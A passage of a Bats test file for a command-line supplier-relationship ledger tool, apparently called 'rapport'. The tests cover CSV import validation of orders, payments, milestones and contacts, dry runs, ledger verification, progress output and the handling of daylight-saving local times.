	fresh_db copy
	for k in orders payments commitments; do in_db copy rapport import --kind "$k" "$k.csv" >/dev/null 2>&1; done
	for k in orders payments commitments; do in_db copy rapport export --partner 1 --kind "$k" | cmp - "$k.csv"; done
	[ "$(rapport score --partner 1 --json)" = "$(in_db copy rapport score --partner 1 --json)" ]
}

@test "an ERP's file of an order's payments and milestones: the order, the record and the amount must be the order's" {
	init_db
	rapport order add --partner 1 --po LR-7 --style "Rib beanie" --qty 1000 --price 2.40 --currency USD \
		--ex-factory 2026-12-21 --at 2026-09-01T09:00Z >/dev/null 2>&1
	local deposit
	deposit=$(db_query "SELECT id FROM payments WHERE label = 'deposit'")
	# only the columns an ERP keeps; the amount written without cents
	printf 'po,label,amount,currency,due,paid\nLR-7,deposit,720,USD,,2026-09-09\nLR-7,balance,1680.00,USD,,\n' >erp.csv
	run --separate-stderr rapport import --kind payments --partner 1 erp.csv
	[ "$status" -eq 0 ]
	[ "$output" = "erp.csv: imported 1 row of payments (1 event); 1 was the outcome of a payment recorded before; 1 row recorded before was left out" ]
	[ "$(db_query "SELECT paid_at FROM payments WHERE id = $deposit")" = "$(date -ud 2026-09-08T23:00Z +%s)" ]
	rapport payments --partner 1 --json | json_is 'len(v)' 2
	# paid on another day than recorded: the two records would disagree
	printf 'po,label,amount,currency,due,paid\nLR-7,deposit,720,USD,,2026-09-10\n' >again.csv
	refuses 2 "again.csv:2: column \"paid\": payment #$deposit is recorded paid already, at 2026-09-09T00:00:00+01:00" \
		import --kind payments --partner 1 --skip-recorded again.csv
	# an order, a payment or an amount that is not the order's, and no label
	{
		printf 'po,label,amount,currency,due,paid\n'
		printf 'LR-8,deposit,720,USD,,2026-09-10\n'
		printf 'LR-7,tooling,720,USD,,2026-09-10\n'
		printf 'LR-7,deposit,702.00,USD,,2026-09-10\n'
		printf 'LR-7,deposit,720,EUR,,2026-09-10\n'
		printf 'LR-7,,720,USD,,2026-09-10\n'
		printf 'LR-7,deposit,0720,USD,,2026-09-10\n'
	} >bad.csv
	run --separate-stderr rapport import --kind payments --partner 1 bad.csv
	[ "$status" -eq 2 ]
	[ "$stderr" = "$(printf '%s\n' \
		'bad.csv:2: column "po": no order LR-8 in this record (import the orders first)' \
		'bad.csv:3: column "label": order LR-7 has no payment "tooling" (deposit or balance)' \
		"bad.csv:4: column \"amount\": order LR-7's deposit is 720.00 USD in this record (an order's deposit and balance follow the deposit share the relationship had when the order was recorded: see rapport settings)" \
		"bad.csv:5: column \"currency\": order LR-7's deposit is 720.00 USD in this record" \
		"bad.csv:6: column \"label\": which of order LR-7's payments (deposit or balance)" \
		'bad.csv:7: column "amount": not a positive decimal with at most 4 places (e.g. 12.50): "0720"' \
		'rapport: bad.csv: 6 bad rows; nothing was imported')" ]
	# milestones: by their names, which the message lists as the order made them
	printf 'side,what,due,po,milestone,outcome,closed\n,,,LR-7,cutting,kept,2026-11-01\n,,,LR-7,,kept,2026-11-01\n' >m.csv
	run --separate-stderr rapport import --kind commitments --partner 1 m.csv
	[ "$status" -eq 2 ]
	names=$(db_query "SELECT milestone FROM commitments ORDER BY id" | paste -sd, | sed 's/,/, /g')
	[ "$stderr" = "$(printf '%s\n' \
		"m.csv:2: column \"milestone\": order LR-7 has no milestone \"cutting\" ($names)" \
		"m.csv:3: column \"milestone\": which of order LR-7's milestones ($names)" \
		'rapport: m.csv: 2 bad rows; nothing was imported')" ]
	printf 'side,what,due,milestone\npartner,Lab dips,2026-12-01,cutting\n' >lone.csv
	refuses 2 'lone.csv:2: column "milestone": only an order'"'"'s promises have one (with its po)' \
		import --kind commitments --partner 1 lone.csv
	printf 'side,what,due,po,milestone,outcome,closed\n,,,LR-7,production start,kept,2026-11-21\n' >kept.csv
	run --separate-stderr rapport import --kind commitments --partner 1 kept.csv
	[ "$output" = "kept.csv: imported 1 row of commitments (1 event); 1 was the outcome of a commitment recorded before" ]
	[ "$(db_query "SELECT state FROM commitments WHERE milestone = 'production start'")" = kept ]
	# a file of an order's records needs no column a record of its own does;
	# a row of it that is no order's still needs its values
	printf 'po,label,paid\nLR-7,balance,2026-11-24\n' >short.csv
	run --separate-stderr rapport import --kind payments --partner 1 --dry-run short.csv
	[ "$status" -eq 0 ]
	[ "$output" = "short.csv: 1 row of payments would be imported (1 event); 1 would be the outcome of a payment recorded before; --dry-run: nothing was written" ]
	printf 'po,label,paid\n,tooling,2026-11-24\n' >lone2.csv
	refuses 2 'lone2.csv:2: column "amount": ' import --kind payments --partner 1 lone2.csv
	# ... but must say which of the order's records each row is
	printf 'po,paid\nLR-7,2026-11-24\n' >nolabel.csv
	refuses 2 'nolabel.csv:1: missing column "label" (required for payments with a po)' \
		import --kind payments --partner 1 nolabel.csv
	# paid in full is the amount however written; another amount is named by
	# the column the file has
	printf 'po,label,paid,paid_amount\nLR-7,deposit,2026-09-09,720\n' >full.csv
	run --separate-stderr rapport import --kind payments --partner 1 full.csv
	[ "$output" = "full.csv: imported 0 rows of payments (0 events); 1 row recorded before was left out" ]
	rapport payment due --partner 1 --amount 90 --currency USD --due 2026-11-30 --label courier --at 2026-11-01 >/dev/null
	local courier
	courier=$(db_query "SELECT id FROM payments WHERE label = 'courier'")
	rapport payment paid "$courier" --amount 60 --at 2026-11-20 >/dev/null
	printf 'amount,currency,due,label,at,paid\n90,USD,2026-11-30,courier,2026-11-01,2026-11-20\n' >courier.csv
	refuses 2 "courier.csv:2: column \"paid\": payment #$courier is recorded paid already, with another amount" \
		import --kind payments --partner 1 courier.csv
}

@test "at most 20 bad rows are listed, then reading stops" {
	init_db
	{
		printf 'side,what,due\n'
		for i in $(seq 1 30); do printf 'buyer,Promise %d,2026-13-%02d\n' "$i" "$i"; done
	} >many.csv
	run --separate-stderr rapport import --kind commitments --partner 1 many.csv
	[ "$status" -eq 2 ]
	[ "$(grep -c '^many.csv:[0-9]*: column "due": no such date' <<<"$stderr")" -eq 20 ]
	# the first is row 2, the last row 21
	[ "$(head -1 <<<"$stderr")" = 'many.csv:2: column "due": no such date: "2026-13-01"' ]
	grep -q '^many.csv:21: ' <<<"$stderr"
	! grep -q '^many.csv:22: ' <<<"$stderr"
	[ "$(tail -1 <<<"$stderr")" = "rapport: many.csv: 20 bad rows (reading stopped there); nothing was imported" ]
	refuses 2 "nothing was imported" import --kind commitments --partner 1 many.csv
}

@test "--dry-run checks every row, duplicate POs included, and writes nothing" {
	init_db
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\nB,S,1,1,USD,2027-06-01\n' >ok.csv
	before=$(dump)
	run --separate-stderr rapport import --kind orders --partner 1 --dry-run ok.csv
	[ "$status" -eq 0 ]
	[ "$output" = "ok.csv: 2 rows of orders would be imported (18 events); --dry-run: nothing was written" ]
	[ "$(dump)" = "$before" ]
	run --separate-stderr rapport import --kind orders --partner 1 --dry-run --json ok.csv
	echo "$output" | json_is 'v' '{"file": "ok.csv", "kind": "orders", "rows": 2, "events": 18, "closed": 0, "renegotiated": 0, "skipped": 0, "dry_run": true}'
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\nA,S,1,1,USD,2027-06-01\n' >dup.csv
	refuses 2 'dup.csv:3: column "po": order A is already on row 2 of this file' \
		import --kind orders --partner 1 --dry-run dup.csv
	# and the real import still lands afterwards
	rapport import --kind orders --partner 1 ok.csv >/dev/null 2>&1
	[ "$(db_query 'SELECT count(*) FROM orders')" = "2" ]
	# the same file again: every row an order already recorded, and said so
	oid=$(db_query "SELECT id FROM orders WHERE po = 'A'")
	run --separate-stderr rapport import --kind orders --partner 1 ok.csv
	[ "$status" -eq 2 ]
	[ "$(head -1 <<<"$stderr")" = "ok.csv:2: column \"po\": order A already exists (#$oid)" ]
	[ "$(tail -1 <<<"$stderr")" = "rapport: ok.csv: 2 bad rows (each an order already recorded: was this file imported before?); nothing was imported" ]
	# one row, the same
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\n' >one.csv
	refuses 2 "rapport: one.csv: 1 bad row (an order already recorded: was this file imported before?); nothing was imported" \
		import --kind orders --partner 1 one.csv
	# new orders among them, or another fault: no such guess
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\nC,S,1,1,USD,2027-06-01\nB,S,1,1,USD,2027-06-01\n' >mixed.csv
	refuses 2 "rapport: mixed.csv: 2 bad rows; nothing was imported" import --kind orders --partner 1 mixed.csv
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\nD,S,0,1,USD,2027-06-01\n' >zero.csv
	refuses 2 "rapport: zero.csv: 2 bad rows; nothing was imported" import --kind orders --partner 1 zero.csv
}

@test "an import appends through the ledger: the chain verifies, times in the future are refused" {
	init_db
	printf 'by,kind,at\nbuyer,call,2026-11-24T09:00Z\npartner,email,2026-11-24T10:00Z\n' >c.csv
	rapport import --kind contacts --partner 1 c.csv >/dev/null
	run rapport log --partner 1 --json
	echo "$output" | json_is '[e["seq"] for e in v]' '[1, 2, 3]'
	echo "$output" | json_is '[e["kind"] for e in v]' '["relationship.open", "contact", "contact"]'
	run rapport verify
	[ "$status" -eq 0 ]
	printf 'by,kind,at\nbuyer,call,2027-01-01\n' >future.csv
	refuses 2 'future.csv:2: column "at": in the future; record events once they have happened' \
		import --kind contacts --partner 1 future.csv
	printf 'by,kind,at\nbuyer,call,yesterday\n' >when.csv
	refuses 2 'when.csv:2: column "at": not an ISO-8601 time: "yesterday" (want YYYY-MM-DD[THH:MM[:SS]][Z|+HH:MM])' \
		import --kind contacts --partner 1 when.csv
}

@test "a file of 1 MiB or more shows a progress bar when stderr is a terminal, never otherwise" {
	init_db
	python3 -c '
print("by,kind,note")
for i in range(2200):
    print("buyer,call,\"Call %d: %s\"" % (i, "lab dips and trims " * 26))
' >big.csv
	[ "$(stat -c %s big.csv)" -ge 1048576 ]
	# script(1) gives the command a terminal; its output is the terminal's
	run script -qec "'$RAPPORT' import --kind contacts --partner 1 --dry-run big.csv" /dev/null
	[ "$status" -eq 0 ]
	[[ "$output" == *"big.csv [########################################] 100% 2200 rows"* ]]
	[[ "$output" == *"big.csv: 2200 rows of contacts would be imported (2200 events)"* ]]
	run --separate-stderr rapport import --kind contacts --partner 1 --dry-run big.csv
	[ "$status" -eq 0 ]
	[ -z "$stderr" ]
}

@test "a local time is read as the command recording it by hand reads it, whatever the rows before it" {
	init_db
	# London: the clocks go back at 02:00 BST on 2026-10-25 (01:30 happens
	# twice: the first is meant, 01:30 BST, as RFC 5545 3.3.5 reads it) and
	# forward at 01:00 GMT on 2026-03-29 (01:30 never happens: it is read
	# with the offset before the change, GMT).
	# Each repeated or skipped time comes once after a summer time and once
	# after a winter time, which once made it read differently.
	printf 'by,kind,note,at\nbuyer,call,summer,2026-10-20 09:00\nbuyer,call,twice after summer,2026-10-25 01:30\nbuyer,call,winter,2026-11-20 09:00\nbuyer,call,twice after winter,2026-10-25 01:30\nbuyer,call,skipped after winter,2026-03-29 01:30\nbuyer,call,summer again,2026-04-20 09:00\nbuyer,call,skipped after summer,2026-03-29 01:30\n' >contacts.csv
	rapport import --kind contacts --partner 1 contacts.csv >/dev/null
	fresh_db byhand
	while IFS=, read -r by kind note at; do
		in_db byhand rapport contact --partner 1 --by "$by" --kind "$kind" --note "$note" --at "$at" >/dev/null
	done < <(tail -n +2 contacts.csv)
	[ "$(rapport contacts --partner 1 --json)" = "$(in_db byhand rapport contacts --partner 1 --json)" ]
	# hand-worked: summer time is UTC+1, winter UTC
	run python3 -c 'import json, sys; print(sorted((c["note"], c["at"]) for c in json.load(sys.stdin)))' < <(rapport contacts --partner 1 --json)
	[ "$output" = "[('skipped after summer', '2026-03-29T01:30:00Z'), ('skipped after winter', '2026-03-29T01:30:00Z'), ('summer', '2026-10-20T08:00:00Z'), ('summer again', '2026-04-20T08:00:00Z'), ('twice after summer', '2026-10-25T00:30:00Z'), ('twice after winter', '2026-10-25T00:30:00Z'), ('winter', '2026-11-20T09:00:00Z')]" ]
}
